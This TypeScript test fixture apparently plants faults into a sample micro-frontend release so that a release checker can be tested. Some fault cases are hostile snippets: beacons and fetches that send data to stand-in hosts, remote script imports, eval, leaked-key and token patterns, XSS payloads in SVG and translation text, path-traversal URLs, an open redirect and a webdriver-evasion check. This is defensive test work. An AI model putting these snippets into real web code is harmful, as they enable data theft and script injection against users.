import { integrityOf } from '../domain/release.ts'
import {
  callBuiltWith,
  plantRoutes,
  sharesNoMore,
  resent,
  respelled,
  routes,
  script,
  style,
  texts,
  uses,
  weight,
  type Cases,
  type World,
} from './planted-world.fixture.ts'
import { MANIFEST_FAULTS } from './planted-manifests.fixture.ts'

const pageOf = (contents: ReadonlyMap<string, Uint8Array>, start: string): string =>
  [...contents.keys()].find((path) => path.startsWith(start)) ?? ''

const TAKEN_FROM_OTHERS: Cases = {
  'an export that the shell does not share': uses('@parlour/ui#Terrace'),
  'a prop that the kit calls otherwise now': uses('@parlour/ui#Button.tone'),
  'a service of the shell that is gone': uses('host#openMap'),
  'an event of the shell with another name': uses('host#onSessionEnd'),
  'a tag that no cached answer has': uses('tag#Flowers'),
  'an error code that the API never sends': uses('error#cart.withered'),
  'a call that the API does not have': ({ garden }) => {
    garden.record.uses = { names: [], calls: { waterGarden: ['POST /api/garden/water'] } }
  },
  'a call at another address': callBuiltWith('getIntroduction', ([, ...fields]) => ['GET /api/old/introduction', ...fields]),
  'a call by another method': callBuiltWith('saveCartItem', ([call = '', ...fields]) => [call.replace('POST', 'GET'), ...fields]),
  'an answer without a field that the page reads': callBuiltWith('saveCartItem', (lines) => [...lines, 'data.colour:string']),
  'an answer whose field has another type': callBuiltWith('saveCartItem', (lines) =>
    otherwise(lines, 'data.version:integer', 'data.version:string'),
  ),
  'an answer whose field may be null now': callBuiltWith('saveCartItem', (lines) =>
    otherwise(lines, 'data.siteName:null|string', 'data.siteName:string'),
  ),
  'an answer with a renamed literal': callBuiltWith('saveCartItem', (lines) =>
    lines.map((line) => (line.startsWith('data.packageId') ? 'data.packageId:"basic"|"standard"|null' : line)),
  ),
  'a sent field that the API refuses': callBuiltWith('saveCartItem', (lines) => [...lines, 'body.colour?:string']),
  'a sent field that the API demands since': callBuiltWith('getIntroduction', (lines) =>
    lines.filter((line) => !line.startsWith('query.countriesId')),
  ),
  'a sent literal that the API no longer takes': callBuiltWith('saveCartItem', (lines) =>
    lines.map((line) => (line.startsWith('body.packageId') ? 'body.packageId?:"basic"|"elite"' : line)),
  ),
  'a shell without an export that a live remote uses': sharesNoMore('@parlour/ui#Button'),
  'a shell without a prop that a live remote sets': sharesNoMore('@parlour/ui#Button.variant'),
  'a shell without a service that a live remote calls': sharesNoMore('host#notify'),
}

const SINGLETONS: Cases = {
  'a newer React than the shell shares': ({ garden }) => void (garden.record.shared = { react: '19.4.0' }),
  'a shell with a newer React than live remotes': (world) => {
    world.part = 'shell'
    world.shell.record.shared = { react: '20.0.0', 'react-dom': '19.3.1', i18next: '27.1.2', '@parlour/ui': '0.1.0' }
  },
  'a shared package that the shell does not share': ({ garden }) => void (garden.record.shared = { lodash: '5.0.0' }),
  'a second React in a page': script('exports.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS_THEY_CANNOT_UPGRADE={};'),
  'a second text engine in a page': script('log("i18next::translator");'),
}

const STYLES: Cases = {
  'a style for every heading': style('h1{color:red}'),
  'a style for the whole page': style(':root{--space-8:9px}'),
  'a style for everything': style('*{margin:0}'),
  'a class of the shell': style('.shell-header-x1y2{display:none}'),
  'a style outside the layer': style('.garden-bed-a1b2c3{color:red}', false),
  'an id': style('#root{padding:0}'),
  'a style for all that is not the garden': style(':not(.garden-bed-a1b2c3){opacity:0}'),
  'an animation that every part sees': style('@keyframes grow{to{opacity:1}}'),
  'a font of its own': style('@font-face{font-family:Garden;src:url(/x.woff2)}'),
}

const LANGUAGES_LACKING: Cases = {
  'a missing language': ({ garden }) => void delete garden.texts.th,
  'a language whose file was not sent': resent((contents) => void contents.delete(pageOf(contents, 'src_locales_ko_json'))),
  'a missing key': texts('ru', (catalogue) => void delete catalogue.title),
  'a key that English does not have': texts('ja', (catalogue) => void (catalogue.weeds = 'zassō')),
  'a missing plural form': texts('ar', (catalogue) => void delete catalogue.flowers_few),
  'a plural form that the language does not have': texts('vi', (catalogue) => void (catalogue.flowers_one = '{{count}}')),
  'another placeholder': texts('es', (catalogue) => void (catalogue.welcome = 'Hola {{nombre}}')),
  'texts that the scripts name in an unknown form': respelled('.json":["1"', '.txt":["1"'),
  'an empty text': texts('tr', (catalogue) => void (catalogue.title = ' ')),
}

const SIZES: Cases = {
  'a first page that grew by 40 kB': script(weight(40), 'remote'),
  'a release that grew by 400 kB': script(weight(400)),
}

const FILES: Cases = {
  'a wrong hash': resent(
    (contents, { record }) => void contents.set(record.entry, Buffer.from('(()=>{})()'.padEnd(contents.get(record.entry)?.length ?? 0))),
  ),
  'a truncated file': resent((contents) => cut(contents, 'src_pages_bed')),
  'a missing chunk': (world) => withoutFile(world, /^src_pages_bed.*\.js$/u),
  'a missing style sheet': (world) => withoutFile(world, /\.css$/u),
  'a file that the record does not name': resent((contents) => void contents.set('extra.js', Buffer.from('var extra'))),
  'a script that cannot be parsed': script('var ; broken('),
  'an entry that demands the hash of another file': ({ garden }) => void (garden.entry = `"${integrityOf(Buffer.from('another'))}"`),
  'an entry that names its scripts in an unknown form': respelled('})[e]+".', '})[e]+"-.'),
  'a style sheet that cannot be parsed': style('.garden-bed-a1b2c3{color:red'),
  'an entry without the module': ({ garden }) => void (garden.record.exposes = ['./page']),
  'a container of another name': (world) => {
    world.sent = (candidate) => ({ ...candidate, record: { ...candidate.record, name: 'greenhouse' } })
  },
  'a source map': resent((contents) => void contents.set('remote.js.map', Buffer.from('{}'))),
}

const CONTRACTS_AND_PATHS: Cases = {
  'a host contract that is still to come': ({ garden }) => void (garden.record.hostContract = 99),
  'an API contract that is no longer served': ({ garden }) => void (garden.record.apiContract = 0),
  'a path of another remote': ({ garden }) => void garden.record.ownedPaths?.push('pond'),
  'a path that is given up': ({ garden }) => void (garden.record.ownedPaths = ['garden']),
}

const CAPABILITIES_AMISS: Cases = {
  'the whole API': ({ garden }) => void garden.record.capabilities?.push('http:/api/*'),
  'no capabilities': ({ garden }) => void delete garden.record.capabilities,
  'a call that is not declared': declares((capability) => capability !== 'http:/api/opening-station/introduce-list'),
  'a service that is not declared': declares((capability) => capability !== 'host:notify'),
  'an address of the API in a script that is not declared': script('fetch("/api/console/releases/block");'),
  'an area whose name only begins alike': ({ garden }) => void garden.record.capabilities?.splice(0, 1, 'http:/api/car/*'),
  'a call that is declared and never made': ({ garden }) => void garden.record.capabilities?.push('http:/api/pay/*'),
  'a service that is declared and never used': ({ garden }) => void garden.record.capabilities?.push('host:openSite'),
}

const CODE: Cases = {
  'code made by eval': script('eval("1+1");'),
  'code made by a constructor': script('new Function("return 1");'),
  'a call of another origin': script('fetch("https://collect.example/garden");'),
  'a script of another origin': script('import("https://cdn.example/lib.js");'),
  'a picture of another origin in a style': style('.garden-bed-a1b2c3{background:url(https://cdn.example/a.png)}'),
  'a private key': script('var key=`-----BEGIN PRIVATE KEY-----\nabc`;'),
  'a token of a code host': script(`var token="ghp_${'a1B2'.repeat(9)}";`),
  'a pointer to a source map': script('\n//# sourceMappingURL=bed.js.map'),
}

const ROUTES: Cases = {
  'a page that the manifest does not list': routes(['garden', 'garden/bed'], [['garden'], ['garden/bed'], ['garden/lawn']]),
  'a route of the manifest without a page': routes(['garden', 'garden/bed', 'garden/lawn'], [['garden'], ['garden/bed']]),
  'a route for every address': routes(['garden', 'garden/bed'], [['garden'], ['garden/bed'], ['*']]),
  'a route below no own path': routes(['garden', 'garden/bed', 'pond'], [['garden'], ['garden/bed'], ['pond']]),
  'an own path without a route': ({ garden }) => {
    garden.record.ownedPaths?.push('lawn')
    plantRoutes(garden, ['garden', 'garden/bed'], [['garden'], ['garden/bed']])
  },
  'a page that everybody may open since': (world) => {
    plantRoutes(world.garden, ['garden', 'garden/bed'], [['garden'], ['garden/bed']])
    world.live = { needs: { 'garden/bed': 'money:read' } }
  },
}

const SHARED_PAGE: Cases = {
  'another fetch for every part': script('var own=window.fetch;window.fetch=(...all)=>own(...all);'),
  'a method for every array': script('Array.prototype.last=function(){return this.at(-1)};'),
  'a method for every text, defined': script('Object.defineProperty(String.prototype,"shout",{value:()=>"!"});'),
  'a cookie': script('document.cookie="bees=1";'),
  'an emptied storage': script('try{window.localStorage?.clear()}catch{}'),
  'a worker for every address': script('navigator.serviceWorker?.register("/assets/garden/sw.js",{scope:"/"});'),
  'a timer from the start': script('setInterval(()=>bed,200);', 'src_pages_lawn'),
  'a listener that nothing removes': script('var grow=()=>{useEffect(()=>{document.addEventListener("keydown",water)},[])};'),
  'a listener that another event removes': script(
    'var grow=()=>{useEffect(()=>{addEventListener("focus",water);return()=>removeEventListener("blur",water)},[])};',
  ),
  'the client of another part': script('var client=(0,api.createClient)("pond",calls);'),
}

const MARKUP: Cases = {
  'markup from a text': script('var lead=(0,r.jsx)("p",{dangerouslySetInnerHTML:{__html:`No ${name}`}});'),
  'markup that is inserted': script('bed.insertAdjacentHTML("beforeend",name);'),
  'a frame that undoes its sandbox': script('var frame=(0,r.jsx)("iframe",{sandbox:wide?"":"allow-same-origin allow-scripts"});'),
  'a script element': script('var more=document.createElement("script");'),
  'an address that runs': script('var link={href:"javascript:water()"};'),
  'a beacon to another origin by a variable': script(
    'var watch=()=>{let place="https://collect.example/c";navigator.sendBeacon(place,bed)};',
  ),
  'files from another place': ({ garden }) => void (garden.entry = 'Y.p="http://localhost:3003/";'),
}

const TEXTS_ON_PAGES: Cases = {
  'a text that no language has': script('function Bed(){let{t:e}=(0,i.useTranslation)("garden");return e("soil.title")}'),
  'a title that no language has': script('var page={path:"garden",handle:{titleKey:"soil.title"},lazy:bed};'),
  'a fixed heading': script('var head=(0,r.jsx)("h1",{children:"Launch report"});'),
  'a fixed name of a field': script('var field=(0,r.jsx)("input",{"aria-label":open?"Your garden":void 0});'),
  'markup in a text': texts('vi', (catalogue) => void (catalogue.title = 'Vườn <img src=x onerror="water()">')),
  'a tag that English does not have': texts('es', (catalogue) => void (catalogue.title = '<b>Jardín</b>')),
}

const LAYOUT: Cases = {
  'a distance from the right': style('.garden-bed-a1b2c3{right:0;position:absolute}'),
  'a margin on the left': style('.garden-bed-a1b2c3{margin:0 0 0 8px}'),
  'a layer above all': style('.garden-bed-a1b2c3{z-index:2147483647}'),
  'a cover over the window': style('.garden-bed-a1b2c3{position:fixed;inset:0;opacity:0}'),
  'a page that is wider than a phone': style('.garden-bed-a1b2c3{min-inline-size:960px}'),
}

const ADDRESSES: Cases = {
  'an address of the API that is put together': script('var ask=()=>fetch(`/api/cart/${["%2e%2e","user"].join("/")}`);'),
  'an address of the API that leads up': script('var ask=()=>fetch("/api/cart/%2e%2e/user/info");'),
  'a call by the method of last year': script('var old={waterBed:{method:"PUT",path:"/api/cart/create"}};'),
  'a link in one language': script('var link=(0,r.jsx)("a",{href:"/en/contact",children:name});'),
  'the address of a wallet': script('var purse="TJk2v9rWq4zF7u1oXc8NbE5hLm3PdYsGt6";'),
  'a secret in a query': script('var link=`${place}?token=${token}`;'),
  'a way out that the address bar names': script('var go=()=>location.assign(new URLSearchParams(location.search).get("next"));'),
}

const LOADER: Cases = {
  'another entry for a neighbour': script('globalThis.__FEDERATION__.__INSTANCES__[0].registerRemotes([{name:"pond",entry:"/x.js"}]);'),
  'chunks in the list of a neighbour': script('(globalThis.rspackChunkparlour_pond||=[]).push([["bed"],{}]);'),
  'a variable of the build': script('var base=process.env.API_URL??"";'),
  'texts that are started anew': script('i18n.init({lng:"en",resources:{}});'),
  'an element beside the page': script('var show=()=>{useEffect(()=>{document.body.prepend(bar)},[])};'),
  'a style element': script('var sheet=document.createElement("style");'),
  'messages of any window': script(
    'var take=()=>{useEffect(()=>{let e=t=>choose(t.data);return addEventListener("message",e),()=>removeEventListener("message",e)},[])};',
  ),
  'code that waits for the robots to go': script('var go=()=>{if(!navigator.webdriver)leave()};'),
  'a page of its own': resent((contents) => void contents.set('signin.html', Buffer.from('<form>'))),
  'a script without a hash in its name': resent((contents) => void contents.set('pay.js', Buffer.from('var pay'))),
}

const OTHERS: Cases = {
  'a picture with a script': resent((contents) => void contents.set('bee.0a1b2c3d4e5f6071.svg', Buffer.from('<svg onload="sting()"/>'))),
  'a token of a bot': script(`var bot="7043112233:AA${'Hx7'.repeat(11)}";`),
  'a box that is clicked': script('var box=(0,r.jsx)("div",{onClick:water,children:icon});'),
  'a turned direction': texts('en', (catalogue) => void (catalogue.title = 'Garden \u202e1')),
  'a text inside itself': texts('es', (catalogue) => void (catalogue.title = '$t(title) Jardín')),
  flashes: style('.garden-bed-a1b2c3{animation:.12s steps(2) infinite garden-grow-a1b2c3}'),
  'a print of every page': style('@page{margin:0}'),
}

export const PLANTED_FAULTS: Cases = {
  ...ADDRESSES,
  ...LOADER,
  ...OTHERS,
  ...ROUTES,
  ...MANIFEST_FAULTS,
  ...SHARED_PAGE,
  ...MARKUP,
  ...TEXTS_ON_PAGES,
  ...LAYOUT,
  ...TAKEN_FROM_OTHERS,
  ...SINGLETONS,
  ...STYLES,
  ...LANGUAGES_LACKING,
  ...SIZES,
  ...FILES,
  ...CONTRACTS_AND_PATHS,
  ...CAPABILITIES_AMISS,
  ...CODE,
}

function declares(isStored: (capability: string) => boolean): (world: World) => void {
  return ({ garden }) => void (garden.record.capabilities = garden.record.capabilities?.filter(isStored) ?? [])
}

function otherwise(lines: readonly string[], served: string, built: string): string[] {
  if (!lines.includes(served)) throw new Error(`The API has no ${served} any more: choose another field`)
  return lines.map((line) => (line === served ? built : line))
}

function cut(contents: Map<string, Uint8Array>, start: string): void {
  const path = pageOf(contents, start)
  contents.set(path, (contents.get(path) ?? new Uint8Array()).subarray(0, 4))
}

function withoutFile(world: World, pattern: RegExp): void {
  world.sent = ({ record, contents }) => ({
    record: { ...record, files: record.files.filter(({ path }) => !pattern.test(path)) },
    contents: new Map([...contents].filter(([path]) => !pattern.test(path))),
  })
}
